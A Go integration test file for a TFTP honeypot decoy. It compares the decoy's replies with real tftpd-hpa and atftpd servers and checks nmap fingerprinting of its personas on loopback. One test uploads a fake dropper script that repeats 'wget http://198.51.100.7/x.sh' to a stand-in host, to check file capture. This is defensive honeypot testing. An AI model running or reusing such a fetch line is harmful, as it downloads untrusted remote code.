//go:build integration

package tftp

import (
	"bytes"
	"context"
	"crypto/sha256"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/decoys"
)

// TestInTftpdOracle sends every request of firstReplies to in.tftpd from
// tftpd-hpa (foreground, --secure, loopback high port) and to the decoy,
// and compares the first replies byte for byte.
func TestInTftpdOracle(t *testing.T) {
	bin, err := exec.LookPath("in.tftpd")
	if err != nil {
		t.Skip("in.tftpd is not installed; install tftpd-hpa under a policy-rc.d that exits 101")
	}
	oracle := startInTftpd(t, bin)
	ts := startService(t, decoys.Config{Options: map[string]string{OptCreate: "false"}, Limits: decoys.Limits{MaxConnsPerSource: 100}})
	addFixture(ts.svc)

	for _, tc := range firstReplies {
		t.Run(tc.name, func(t *testing.T) {
			wait := 2 * time.Second
			if tc.want == "" {
				wait = 300 * time.Millisecond
			}
			want, _, _ := exchange(t, "127.0.0.1", oracle, []byte(tc.req), wait)
			got, _, _ := exchange(t, "127.0.0.2", ts.addr, []byte(tc.req), wait)
			if !bytes.Equal(got, want) {
				t.Errorf("decoy %q, in.tftpd %q", got, want)
			}
		})
	}
}

func startInTftpd(t *testing.T, bin string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "a.txt"), []byte("hello tftp\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(dir, "dir"), 0o755); err != nil {
		t.Fatal(err)
	}
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := pc.LocalAddr().(*net.UDPAddr).Port
	_ = pc.Close()
	addr := "127.0.0.1:" + strconv.Itoa(port)

	ctx, cancel := context.WithCancel(context.Background())
	cmd := exec.CommandContext(ctx, bin, "-L", "-a", addr, "-s", dir)
	if err := cmd.Start(); err != nil {
		cancel()
		t.Fatalf("start in.tftpd: %v", err)
	}
	t.Cleanup(func() {
		cancel()
		_ = cmd.Wait()
	})
	// in.tftpd replies to a missing file once it listens.
	for i := 0; ; i++ {
		if got, _, _ := exchange(t, "127.0.0.1", addr, []byte("\x00\x01probe\x00octet\x00"), 200*time.Millisecond); got != nil {
			return addr
		}
		if i == 25 {
			t.Fatalf("in.tftpd did not answer on %s", addr)
		}
	}
}

// TestTftpHPAClient gets and puts files with the tftp-hpa client in both
// modes and checks the events.
func TestTftpHPAClient(t *testing.T) {
	bin, err := exec.LookPath("tftp")
	if err != nil {
		t.Skip("tftp is not installed; install tftp-hpa")
	}
	ts := startService(t, decoys.Config{Seed: []byte("client-seed")})
	host, port, _ := net.SplitHostPort(ts.addr)
	dir := t.TempDir()

	got := filepath.Join(dir, "default")
	out, err := exec.Command(bin, host, port, "-m", "netascii", "-c", "get", "pxelinux.cfg/default", got).CombinedOutput()
	if err != nil {
		t.Fatalf("tftp get: %v: %s", err, out)
	}
	body, _ := os.ReadFile(got)
	if !strings.HasPrefix(string(body), "DEFAULT install\nLABEL install\n") {
		t.Errorf("got %q", body)
	}

	out, _ = exec.Command(bin, host, port, "-m", "binary", "-c", "get", "nope.bin", filepath.Join(dir, "nope")).CombinedOutput()
	if !strings.Contains(string(out), "File not found") {
		t.Errorf("missing file output %q", out)
	}

	payload := bytes.Repeat([]byte("#!/bin/sh\nwget http://198.51.100.7/x.sh\n"), 200)
	src := filepath.Join(dir, "bins.sh")
	if err := os.WriteFile(src, payload, 0o644); err != nil {
		t.Fatal(err)
	}
	out, err = exec.Command(bin, host, port, "-m", "binary", "-c", "put", src, "bins.sh").CombinedOutput()
	if err != nil {
		t.Fatalf("tftp put: %v: %s", err, out)
	}

	capt := ts.rec.waitKind(t, decoys.KindFileCaptured, 1)[0].GetFileCaptured()
	sum := sha256.Sum256(payload)
	if !bytes.Equal(capt.GetSha256(), sum[:]) || capt.GetName() != "bins.sh" || capt.GetSize() != uint64(len(payload)) {
		t.Errorf("captured %x %q %d", capt.GetSha256(), capt.GetName(), capt.GetSize())
	}
	reqs := ts.rec.waitKind(t, decoys.KindFileRequested, 2)
	if r := reqs[0].GetFileRequested(); r.GetName() != "pxelinux.cfg/default" || !r.GetServed() || r.GetMode() != "netascii" {
		t.Errorf("first request %v", r)
	}
	if r := reqs[1].GetFileRequested(); r.GetName() != "nope.bin" || r.GetServed() {
		t.Errorf("second request %v", r)
	}
}

// TestAtftpdOracle sends every request of atftpdReplies to atftpd
// (Debian's package, foreground, loopback high port, a temporary root)
// and to the decoy's atftpd persona, and compares the first replies
// byte for byte; then it runs the same tftp-hpa client sessions against
// both and compares what the client prints and fetches.
func TestAtftpdOracle(t *testing.T) {
	bin, err := exec.LookPath("atftpd")
	if err != nil {
		// integration/setup.sh unpacks it there: its package conflicts
		// with tftpd-hpa.
		bin = "/opt/decnet-oracles/atftpd/usr/sbin/atftpd"
		if _, serr := os.Stat(bin); serr != nil {
			t.Skip("atftpd is not available; run integration/setup.sh")
		}
	}
	oracle := startAtftpd(t, bin)
	ts := startService(t, decoys.Config{Persona: PersonaAtftpd, Limits: decoys.Limits{MaxConnsPerSource: 100}})
	addFixture(ts.svc)

	for _, tc := range atftpdReplies {
		t.Run(tc.name, func(t *testing.T) {
			want, _, _ := exchange(t, "127.0.0.1", oracle, []byte(tc.req), 2*time.Second)
			got, _, _ := exchange(t, "127.0.0.2", ts.addr, []byte(tc.req), 2*time.Second)
			if !bytes.Equal(got, want) {
				t.Errorf("decoy %q, atftpd %q", got, want)
			}
			if string(want) != tc.want {
				t.Errorf("atftpd now answers %q; the table says %q", want, tc.want)
			}
		})
	}

	client, err := exec.LookPath("tftp")
	if err != nil {
		t.Skip("tftp is not installed; install tftp-hpa")
	}
	dir := t.TempDir()
	src := filepath.Join(dir, "up.bin")
	if err := os.WriteFile(src, bytes.Repeat([]byte("0123456789abcdef"), 100), 0o644); err != nil {
		t.Fatal(err)
	}
	sessions := [][]string{
		{"-m", "netascii", "-c", "get", "a.txt"},
		{"-m", "binary", "-c", "get", "a.txt"},
		{"-m", "binary", "-c", "get", "nope.bin"},
		{"-m", "binary", "-c", "put", src, "up.bin"},
		{"-m", "binary", "-c", "get", "up.bin"},
	}
	for i, args := range sessions {
		run := func(addr, sub string) (string, []byte) {
			host, port, _ := net.SplitHostPort(addr)
			wd := filepath.Join(dir, sub+strconv.Itoa(i))
			if err := os.Mkdir(wd, 0o755); err != nil {
				t.Fatal(err)
			}
			cmd := exec.Command(client, append([]string{host, port}, args...)...)
			cmd.Dir = wd
			out, _ := cmd.CombinedOutput()
			// The client names the file after the last argument.
			body, _ := os.ReadFile(filepath.Join(wd, filepath.Base(args[len(args)-1])))
			return strings.ReplaceAll(string(out), port, "PORT"), body
		}
		wantOut, wantBody := run(oracle, "oracle")
		gotOut, gotBody := run(ts.addr, "decoy")
		if gotOut != wantOut || !bytes.Equal(gotBody, wantBody) {
			t.Errorf("tftp %v: decoy %q (%d bytes), atftpd %q (%d bytes)", args, gotOut, len(gotBody), wantOut, len(wantBody))
		}
	}
}

func startAtftpd(t *testing.T, bin string) string {
	t.Helper()
	// The daemon drops to nobody, so its root must be reachable by
	// others (t.TempDir's parent is not) and, as Debian's /srv/tftp for
	// atftpd, writable by it; the fixture stays root's.
	dir, err := os.MkdirTemp("", "atftpd-oracle-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "a.txt"), []byte("hello tftp\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(dir, "dir"), 0o755); err != nil {
		t.Fatal(err)
	}
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := pc.LocalAddr().(*net.UDPAddr).Port
	_ = pc.Close()
	addr := "127.0.0.1:" + strconv.Itoa(port)

	ctx, cancel := context.WithCancel(context.Background())
	// Debian's /etc/default/atftpd options, on a loopback high port.
	cmd := exec.CommandContext(ctx, bin, "--daemon", "--no-fork", "--port", strconv.Itoa(port), "--bind-address", "127.0.0.1",
		"--tftpd-timeout", "300", "--retry-timeout", "5", "--maxthread", "100", "--no-multicast", dir)
	if err := cmd.Start(); err != nil {
		cancel()
		t.Fatalf("start atftpd: %v", err)
	}
	t.Cleanup(func() {
		cancel()
		_ = cmd.Wait()
	})
	for i := 0; ; i++ {
		if got, _, _ := exchange(t, "127.0.0.1", addr, []byte("\x00\x01probe\x00octet\x00"), 200*time.Millisecond); got != nil {
			return addr
		}
		if i == 25 {
			t.Fatalf("atftpd did not answer on %s", addr)
		}
	}
}

// TestNmapNamesPersona runs nmap's UDP version detection against each
// persona and against real atftpd. nmap's UDP probes reach TFTP only
// through the DNS status request, an opcode 0 packet, and nmap reads
// only replies from the probed port. tftpd-hpa drops the probe and
// atftpd answers it from a new port, so nmap reports both as
// open|filtered, and the decoy must not do better; WDS answers from its
// server port with the error nmap-service-probes names it by.
func TestNmapNamesPersona(t *testing.T) {
	nmap, err := exec.LookPath("nmap")
	if err != nil {
		t.Skip("nmap is not installed")
	}
	if os.Geteuid() != 0 {
		t.Skip("nmap -sU needs root")
	}
	cases := []struct{ persona, want string }{
		{PersonaTftpdHPA, "open|filtered unknown"},
		{PersonaAtftpd, "open|filtered unknown"},
		{PersonaWDS, "open tftp Microsoft Windows Deployment Services tftpd"},
	}
	scan := func(t *testing.T, addr string) string {
		t.Helper()
		_, port, _ := net.SplitHostPort(addr)
		out, err := exec.Command(nmap, "-sU", "-sV", "--version-intensity", "5", "-Pn", "-p", port, "127.0.0.1").CombinedOutput()
		if err != nil {
			t.Fatalf("nmap: %v\n%s", err, out)
		}
		line := regexp.MustCompile(`(?m)^` + port + `/udp .*$`).FindString(string(out))
		return strings.Join(strings.Fields(strings.TrimPrefix(line, port+"/udp")), " ")
	}
	// Each scan waits out nmap's UDP probe timeouts; the scans run side
	// by side, each on its own port.
	for _, tc := range cases {
		t.Run(tc.persona, func(t *testing.T) {
			t.Parallel()
			ts := startService(t, decoys.Config{Persona: tc.persona})
			if got := scan(t, ts.addr); !strings.HasPrefix(got, tc.want) {
				t.Errorf("nmap says %q, want %q", got, tc.want)
			}
		})
	}
	t.Run("real atftpd", func(t *testing.T) {
		t.Parallel()
		bin := "/opt/decnet-oracles/atftpd/usr/sbin/atftpd"
		if p, err := exec.LookPath("atftpd"); err == nil {
			bin = p
		}
		if _, err := os.Stat(bin); err != nil {
			t.Skip("atftpd is not available; run integration/setup.sh")
		}
		if got := scan(t, startAtftpd(t, bin)); !strings.HasPrefix(got, cases[1].want) {
			t.Errorf("nmap says %q of atftpd; the persona's expectation is %q", got, cases[1].want)
		}
	})
}

// TestTftpHPAClientWDS gets a file from the WDS persona with the tftp-hpa
// client and checks that an upload is rejected as the read-only server
// rejects it.
func TestTftpHPAClientWDS(t *testing.T) {
	bin, err := exec.LookPath("tftp")
	if err != nil {
		t.Skip("tftp is not installed; install tftp-hpa")
	}
	ts := startService(t, decoys.Config{Persona: PersonaWDS, Seed: []byte("client-seed")})
	host, port, _ := net.SplitHostPort(ts.addr)
	dir := t.TempDir()

	got := filepath.Join(dir, "default")
	out, err := exec.Command(bin, host, port, "-m", "netascii", "-c", "get", "pxelinux.cfg/default", got).CombinedOutput()
	if err != nil {
		t.Fatalf("tftp get: %v: %s", err, out)
	}
	body, _ := os.ReadFile(got)
	if !strings.HasPrefix(string(body), "DEFAULT install\nLABEL install\n") {
		t.Errorf("got %q", body)
	}

	src := filepath.Join(dir, "x.bin")
	if err := os.WriteFile(src, []byte("payload"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, _ = exec.Command(bin, host, port, "-m", "binary", "-c", "put", src, "x.bin").CombinedOutput()
	if string(out) != "Error code 2: Access violation.\n" {
		t.Errorf("put output %q", out)
	}
	if n := len(ts.rec.byKind(decoys.KindFileCaptured)); n != 0 {
		t.Errorf("%d files captured from a read-only server", n)
	}
}
